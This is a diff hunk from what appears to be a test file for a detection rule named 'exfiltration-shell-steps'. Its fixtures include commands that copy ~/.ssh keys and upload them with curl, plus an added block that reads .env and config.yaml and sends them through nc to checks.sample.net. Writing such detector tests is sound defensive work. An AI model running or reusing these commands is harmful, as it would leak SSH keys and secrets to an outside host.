@@ -18,6 +18,12 @@ cp -r ~/.ssh/* "$PLACE/keys"
 tar czf /tmp/all.tgz -C "$PLACE" .
 curl -F "file=@/tmp/all.tgz" https://checks.sample.net/in
 
+# ruleid: exfiltration-shell-steps
+for one in .env config.yaml; do
+  ALL="$ALL $(cat "$one")"
+done
+echo "$ALL" | nc -w 5 checks.sample.net 8000
+
 # ok: exfiltration-shell-steps
 cat .env.example > /tmp/plain.txt
 curl -T /tmp/plain.txt https://checks.sample.net/in
